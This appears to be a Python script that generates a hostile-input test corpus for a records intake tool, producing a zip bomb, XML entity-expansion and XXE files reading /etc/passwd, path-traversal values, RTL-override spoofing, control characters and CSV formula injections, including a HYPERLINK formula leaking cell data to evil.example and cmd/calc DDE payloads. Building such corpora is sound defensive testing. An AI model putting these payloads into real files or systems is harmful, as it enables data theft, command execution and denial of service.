"""Rebuild the hostile intake corpus of this folder (``python build_corpus.py``).

Each file is one kind of nasty input; tests/test_hostile.py runs the tool over all of
them. The files are committed; this script documents how each was made."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

from openpyxl import Workbook

HERE = Path(__file__).parent
EXAMPLE_CSV = HERE.parents[2] / "conventions" / "examples" / "public-meeting-2026-11.csv"
EXAMPLE_JSON = HERE.parents[2] / "conventions" / "examples" / "rural-paths.json"

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
PLUS_CMD = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
FORMULAS = (HYPERLINK, PLUS_CMD, AT_SUM, MINUS)


def _plain_workbook() -> bytes:
    wb = Workbook()
    sheet = wb.active
    assert sheet is not None
    sheet.append(["reference", "title"])
    sheet.append(["FF-X", "Jardin"])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def zip_bomb() -> None:
    with zipfile.ZipFile(io.BytesIO(_plain_workbook())) as src, zipfile.ZipFile(
            HERE / "zip-bomb.xlsx", "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst:
        for item in src.infolist():
            dst.writestr(item.filename, src.read(item))
        dst.writestr("xl/sharedStrings2.xml", b"\0" * 80_000_000)


def xml_entities() -> None:
    laughs = b'<!DOCTYPE s [<!ENTITY a "aaaaaaaaaa">' + b"".join(
        b'<!ENTITY %s "%s">' % (b"b" * (i + 1), (b"&" + (b"b" * i or b"a") + b";") * 10)
        for i in range(8)) + b'<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    with zipfile.ZipFile(io.BytesIO(_plain_workbook())) as src, zipfile.ZipFile(
            HERE / "xml-entities.xlsx", "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"?>", b"?>" + laughs, 1).replace(
                    b"<v>", b"<v>&bbbbbbbb;&x;", 1)
            dst.writestr(item.filename, data)


def _example_rows() -> tuple[list[str], list[list[str]]]:
    text = EXAMPLE_CSV.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    return rows[0], rows[1:]


def _write_csv(name: str, header: list[str], rows: list[list[str]]) -> None:
    buf = io.StringIO()
    csv.writer(buf, delimiter=";", lineterminator="\r\n").writerows([header, *rows])
    (HERE / name).write_text(buf.getvalue(), encoding="utf-8", newline="")


def enormous_row() -> None:
    header, rows = _example_rows()
    row = list(rows[0])
    row[header.index("title")] = "Jardin " * 25_000
    row[header.index("reference")] = "FF-HOSTILE-ENORME"
    _write_csv("enormous-row.csv", header + [f"extra_{i}" for i in range(3000)],
               [row + ["x"] * 3000])


def deep_json() -> None:
    (HERE / "deep-nesting.json").write_text("[" * 20_000 + "]" * 20_000)
    (HERE / "deep-object.json").write_text('{"title":' * 5_000 + "1" + "}" * 5_000)


def control_chars() -> None:
    header, rows = _example_rows()
    row = list(rows[0])
    row[header.index("reference")] = "FF-HOSTILE-\x07BELL"
    row[header.index("title")] = "Jardin\x1b[31m rouge\x08\u2028\u0085 fin"
    row[header.index("holders.0.name")] = "Martine\x0bVasseur\x7f"
    _write_csv("control-chars.csv", header, [row])


def rtl_and_paths() -> None:
    data = json.loads(EXAMPLE_JSON.read_text(encoding="utf-8"))
    rtl = dict(data, reference="FF-HOSTILE-RTL",
               title="Chemins \u202egnp.exe\u202c ruraux \u2066isolé\u2069")
    rtl["holders"] = [dict(data["holders"][0], name="\u202eeiram Dupont")]
    path = dict(data, reference="../../etc/passwd", title="../../etc/passwd")
    path2 = dict(data, reference="FF-HOSTILE-PATH", title="Chemins ../../etc/passwd")
    path2["holders"] = [dict(data["holders"][0], name="../../../../etc/shadow")]
    for name, record in (("rtl-override.json", rtl), ("path-reference.json", [path, path2])):
        (HERE / name).write_text(json.dumps(record, ensure_ascii=False, indent=1),
                                 encoding="utf-8")


def formula_injection() -> None:
    header, rows = _example_rows()
    out = []
    # accepted record whose free text is a formula: reaches the registry and its export
    ok = list(rows[0])
    ok[header.index("reference")] = "FF-HOSTILE-FORMULE"
    ok[header.index("title")] = HYPERLINK
    ok[header.index("holders.0.name")] = AT_SUM
    out.append(ok)
    # rejected records whose values are formulas: reach the report and the rejected rows
    for i, formula in enumerate(FORMULAS):
        bad = list(rows[0])
        bad[header.index("reference")] = formula
        bad[header.index("title")] = formula
        bad[header.index("schedule.start")] = formula
        bad[header.index("holders.0.email")] = PLUS_CMD
        bad[header.index("commune_commitments.money.0.amount")] = f"{formula}{i}"
        out.append(bad)
    _write_csv("formula-injection.csv", header, out)
    # a formula as a column name: the whole file is refused, the name is echoed back
    _write_csv("formula-header.csv", [*header, "=cmd|' /C calc'!A0"],
               [[*rows[0], MINUS]])


if __name__ == "__main__":
    zip_bomb()
    xml_entities()
    enormous_row()
    deep_json()
    control_chars()
    rtl_and_paths()
    formula_injection()
